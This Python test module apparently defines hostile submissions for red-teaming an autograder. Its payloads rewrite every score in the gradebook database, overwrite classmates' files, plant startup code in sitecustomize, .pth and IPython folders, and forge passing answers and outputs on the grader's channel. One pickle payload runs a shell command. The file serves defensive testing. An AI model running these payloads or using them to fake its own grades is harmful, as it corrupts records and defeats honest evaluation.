"""Forgers: scores written into the gradebook, files of others overwritten, replies made up on the grader's own line."""

from __future__ import annotations

from red_team.cells import RIGHT
from red_team.submission import Hostile, add, both, write

SQL = """
import glob, sqlite3
for path in {*glob.glob("../../../*.db"), *glob.glob("../../*.db"), "@COURSE@/gradebook.db"}:
    try:
        with sqlite3.connect(path, timeout=5) as gradebook:
            gradebook.execute("update grade set auto_score = 50, manual_score = 50, needs_manual_grade = 0")
            gradebook.execute("update grade_cells set max_score = 50")
            gradebook.execute("update comment set manual_comment = '@TOKEN@'")
    except sqlite3.Error as error:
        print(type(error).__name__)
"""
LOCKS = """
import os, sqlite3
for path in ("../../../gradebook.db", "@COURSE@/gradebook.db"):
    try:
        gradebook = sqlite3.connect(path, timeout=1, isolation_level=None)
        gradebook.execute("begin exclusive")
        if os.fork() == 0:
            os.setsid()
            import time
            time.sleep(300)
            os._exit(0)
    except sqlite3.Error as error:
        print(type(error).__name__)
"""
OVERWRITES = """
import glob, os
for root in ("../../..", "@COURSE@", "@HOME@"):
    patterns = ("submitted/*/*/*", "source/*/*", "release/*/*", "*.py", "autograded/*/*/*")
    for path in [path for pattern in patterns for path in glob.glob(root + "/" + pattern)]:
        if "overwrites" not in path:
            try:
                os.chmod(path, 0o644)
                with open(path, "a") as file:
                    file.write("@TOKEN@")
            except OSError:
                pass
"""
IMPLANTS = """
import os, site, sys, sysconfig
code = "open('/tmp/@TOKEN@-implant', 'w').close()\\n"
folders = [site.getusersitepackages(), *site.getsitepackages(), sysconfig.get_paths()["stdlib"], *sys.path,
           os.path.expanduser("~/.ipython/profile_default/startup"), "@HOME@/.ipython/profile_default/startup",
           os.environ.get("IPYTHONDIR", "/nowhere") + "/profile_default/startup",
           os.environ.get("JUPYTER_CONFIG_DIR", "/nowhere"), "@HOME@/.config", "@COURSE@"]
for folder in folders:
    for name in ("@TOKEN@.pth", "sitecustomize.py", "usercustomize.py", "00-@TOKEN@.py", "ipython_kernel_config.py"):
        path = os.path.join(folder, name)
        try:
            if not os.path.exists(path):
                os.makedirs(folder, exist_ok=True)
                with open(path, "w") as file:
                    file.write("import os; " + code if name.endswith(".pth") else "# @TOKEN@\\n" + code)
        except OSError:
            pass
"""
LITTER = """
import os, tempfile
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/", "/etc", "/usr/local", "@COURSE@", "@COURSE@/submitted",
               "@HOME@", "@COURSE@/source/plain", os.path.expanduser("~"), tempfile.gettempdir(), "..", "../../.."):
    try:
        with open(os.path.join(folder, "@TOKEN@-litter"), "w") as file:
            file.write("here I was")
        os.mkdir(os.path.join(folder, "@TOKEN@-folder"))
    except OSError as error:
        print(type(error).__name__)
"""
EVERY_DESCRIPTOR = """
import os, socket, struct, threading

def write_to_all(text):
    for number in list(range(3, 64)) + [0, 1, 2]:
        try:
            os.set_blocking(number, False)
            os.write(number, text)
        except OSError:
            pass

def double(number):
    write_to_all(b"2\\n" * 100)
    write_to_all(struct.pack("!Q", 4) + b"\\x81\\xa4do")
    write_to_all(b'{"done": 2, "points": 2, "score": 2}' * 50)
    return 0

words = "once"
"""
CLOSES = """
import os
def double(number):
    for name in os.listdir("/proc/self/fd") if os.path.isdir("/proc/self/fd") else range(256):
        try:
            os.close(int(name))
        except OSError:
            pass

def halve(number):
    null = os.open("/dev/null", os.O_RDWR)
    for name in range(3, 64):
        try:
            os.dup2(null, name)
        except OSError:
            pass
"""
# Our own side of the line is in this process; whoever runs in it can take it over.
WORKER = """
import gc, struct, sys

def worker():
    for one in gc.get_objects():
        if type(one).__name__ == "Worker" and hasattr(one, "wire"):
            return one

def codec():
    return sys.modules.get("shoshin.classroom.codec")

def frame(content):
    worker().wire.end.sendall(struct.pack("!Q", len(content)) + content)

def say(words, handle=None):
    frame(codec().encode(words, handle or (lambda value: 16)))

def in_a_call(action):
    def call(*a, **k):
        if worker() is not None:
            action()
        return 0
    return call
"""
LYING_WORKER = (
    WORKER
    + """
import collections
there = worker()
if there is not None:
    outcome = {"kind": "value", "value": 2, "seconds": 0.0, "error": "", "line": "", "warned": [], "changed": [],
               "printed": "", "memory": 0, "points": 2, "passed": True, "expected": 2}
    there.do_attempt = lambda *a, **k: outcome
    there.do_nature = lambda value: collections.defaultdict(bool, kind="function", is_stub=False, callable=True)
    there.do_placeholders = lambda value: []
    there.do_call = lambda *a, **k: [True, [[True]] * 3, {}]
    there.do_operate = lambda *a: True
    there.do_type = lambda value: ["builtins", "int"]
    there.do_bases = lambda kind: ["SystemExit", "BaseException"]

def double(number):
    return number

def halve(number):
    return number
"""
)
AHEAD = (
    WORKER
    + """
def ahead():
    for number in range(300):
        say({"done": [2, [], {}]})
        say({"done": {"kind": "value", "value": number, "seconds": 0.0, "error": "", "changed": []}})
        say({"done": True})

double = halve = in_a_call(ahead)
if worker() is not None:
    ahead()
"""
)
GARBAGE = (
    WORKER
    + """
import os
def double(number):
    if worker() is not None:
        frame(os.urandom(5000))
        frame(b"")
        frame(b"\\x91" * 100_000)  # lists in lists in lists
        frame(b"\\xdf\\xff\\xff\\xff\\xff")  # a mapping of 4 billion
        frame(b"\\xc6\\xff\\xff\\xff\\xff")  # 4 GB of bytes
    return 0

def halve(number):
    if worker() is not None:
        worker().wire.end.sendall(struct.pack("!Q", 2**63 + 5) + b"x")
    return 0
"""
)
NUMPY_BOMBS = (
    WORKER
    + """
import io, numpy as np

def header(text):
    return b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(text)) + text.encode()

def bombs():
    import msgpack
    pickled = b"cos\\nsystem\\n(S'touch /tmp/@TOKEN@-pickled'\\ntR."
    for head in ("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
                 "{'descr': '<f8', 'fortran_order': False, 'shape': (4611686018427387904,), }",
                 "{'descr': '<f8', 'fortran_order': False, 'shape': (-1, 0), }",
                 "{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (2,), }",
                 "[" * 5000):
        for code in range(128):
            frame(msgpack.packb({"done": [msgpack.ExtType(code, header(head) + pickled), [], {}]}))
    for code in range(128):
        frame(msgpack.packb({"done": [msgpack.ExtType(code, pickled), [], {}]}))
        frame(msgpack.packb({"done": [msgpack.ExtType(code, b"ARROW1\\0\\0" + b"\\xff" * 64), [], {}]}))

double = halve = in_a_call(bombs)
"""
)
HANDLES = (
    WORKER
    + """
class Odd:
    pass

def odd():
    for number in (-1, 0, 15, 2**63 - 1, 7, 22, 16 * 10**6 + 6, 16 * 10**6 + 14):
        say({"done": [Odd(), [[Odd()]], {"x": [Odd()]}]}, lambda value, number=number: number)
    there = worker()
    for bases in (["a\\0b"], ["\\ud800"], [["x"]], [3], ["SystemExit"], ["KeyboardInterrupt"], ["x" * 10**6], "Error",
                  [], None, ["StopIteration"] * 1000, ["BaseException"], ["GeneratorExit"]):
        there.do_bases = lambda kind, bases=bases: bases
        try:
            say({"raised": {"bases": bases, "modules": [None], "text": "x" * 10**6, "line": bases, "class": [Odd()]}},
                lambda value: 16 * 99 + 7)
        except Exception:
            pass
    say({"raised": 3})
    say({"raised": {}})
    say({"callback": 0})
    say([1, 2])

double = halve = in_a_call(odd)
"""
)
CALLBACKS = (
    WORKER
    + """
def calls():
    for number in (0, 1, 2, -1, 10**30, "0", None, 1.0):
        for arguments in ([], [10**4000], ["a" * 10**6] * 3, [[]] * 50, None, {}):
            say({"callback": number, "arguments": arguments, "options": {"self": 1}})

def forever():
    while True:
        say({"callback": 0, "arguments": [1], "options": {}})
        worker().wire.end.setblocking(False)
        try:
            worker().wire.end.recv(2**20)
        except OSError:
            pass
        worker().wire.end.setblocking(True)

def twice(f, x):
    if worker() is not None:
        calls()
    return 0

def compose(f, g):
    if worker() is not None:
        forever()
"""
)
OUTPUTS = (
    WORKER
    + """
there = worker()
if there is not None:
    odd = [None, 3, "x", [], {}, {"output_type": 7}, {"output_type": "execute_result"},
           {"output_type": "pyout", "text": 1}, {1: 2, None: 3}, {"output_type": "error"},
           {"output_type": "execute_result", "data": {"text/plain": 2}, "metadata": None, "execution_count": "one"},
           {"output_type": "stream", "name": "stderr", "text": ["a", 3]},
           {"output_type": "stream", "name": 1, "text": None},
           {"output_type": "error", "ename": None, "evalue": 3, "traceback": "x"},
           {"output_type": "display_data", "data": {"image/png": 3, "text/html": ["<script>"], 5: 6},
            "metadata": {"a": {}}},
           {"output_type": "display_data", "data": {"text/plain": "x" * 10**7}, "metadata": {"x" * 10**6: 1}},
           {"output_type": "display_data", "data": {"application/json": {"a": [float("nan")] * 1000}}, "metadata": {}}]
    there.do_run = lambda *a: odd * 500
"""
)
SLOWLY = (
    WORKER
    + """
import os, time
def double(number):
    if worker() is not None:
        worker().wire.end.sendall(struct.pack("!Q", 100_000))
        while True:
            worker().wire.end.sendall(b"\\x00")
            time.sleep(0.2)
    return 0
"""
)
PASSES_DESCRIPTORS = (
    WORKER
    + """
import array, os, socket
def double(number):
    if worker() is not None:
        content = codec().encode({"done": [0, [], {}]}, lambda value: None)
        for _ in range(100):
            pipes = [end for _ in range(50) for end in os.pipe()]
            rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", pipes))]
            worker().wire.end.sendmsg([struct.pack("!Q", len(content)) + content], rights)
            for end in pipes:
                os.close(end)
    return 0
"""
)
TALKS_IN_A_THREAD = (
    WORKER
    + """
import threading, time
def talk():
    while True:
        try:
            say({"done": [True, [], {}]})
        except Exception:
            pass
        time.sleep(0.01)

if worker() is not None:
    threading.Thread(target=talk, daemon=True).start()
"""
)
# What a test hands over, it hands over to be used; a lie about what became of it must not reach further.
STATES = (
    WORKER
    + """
there = worker()
if there is not None:
    def do_call(function, arguments, options, listening=False):
        lies = {list: [], dict: {}, set: set(), np.ndarray: None}
        states = [[lies.get(type(each), 0)] for each in arguments] * 5
        return [None, states, {"table": [None], "n": [0], 3: []}, ["2", 2], [[["Warning"], 2], 3, [4, 5]], 0]
    there.do_call = do_call
"""
)


def on_the_line(name: str, tries: str, source: str) -> Hostile:
    return Hostile(name, tries, "double", write(double=source), stock="held")


SUBMISSIONS = (
    Hostile("writes-the-gradebook", "SQL on gradebook.db", "plain", write(draw=SQL), stock="trace"),
    Hostile("locks-the-gradebook", "an exclusive lock on gradebook.db that outlives the submission", "plain",
            write(draw=LOCKS), stock="stopped"),
    Hostile("overwrites-files", "classmates' submissions, sources and releases overwritten", "plain",
            write(draw=OVERWRITES), stock="trace"),
    Hostile("implants-code", "sitecustomize, .pth and IPython's startup files", "plain", write(first=IMPLANTS),
            stock="trace"),
    Hostile("litters", "files wherever it may write", "plain", write(first=LITTER), stock="trace"),
    Hostile("writes-to-descriptors", "garbage and points to every open descriptor", "double",
            write(double=EVERY_DESCRIPTOR), stock="held"),
    Hostile("closes-descriptors", "every descriptor closed or replaced", "double",
            write(double=CLOSES, words=RIGHT["words"]), {"words": 1}, stock="stopped"),
    on_the_line("lies-on-the-line", "the process's own answers to the grader replaced", LYING_WORKER),
    on_the_line("answers-ahead", "hundreds of answers to questions that were not asked yet", AHEAD),
    on_the_line("sends-garbage", "frames that are no answers, and frames of absurd sizes", GARBAGE),
    on_the_line("sends-bombs", "arrays of objects, of pickles and of 2**62 numbers", NUMPY_BOMBS),
    on_the_line("invents-handles", "objects that are not there, exceptions with odd names", HANDLES),
    Hostile("calls-back", "the test's functions called with everything, and without an end", "plain",
            write(functions=CALLBACKS), stock="held"),
    Hostile("forges-outputs", "made-up outputs of its cells", "double",
            both(write(double=OUTPUTS, words=RIGHT["words"]), add("3")), stock="held"),
    on_the_line("sends-slowly", "an answer that comes one byte after another", SLOWLY),
    on_the_line("passes-descriptors", "open files sent to the grader by the hundred", PASSES_DESCRIPTORS),
    Hostile("talks-in-between", "a thread that answers what it was not asked", "plain",
            write(first=TALKS_IN_A_THREAD), stock="held"),
    Hostile("lies-about-arguments", "made-up states of the arguments after a call", "plain", write(draw=STATES),
            stock="held"),
    Hostile("prints-points", "numbers printed and shown in every cell", "double",
            both(write(first="print(2)\ndisplay(2)\n2"), add("print(1.5)\n1.5"), add("2", at=4)), stock="held"),
)  # fmt: skip
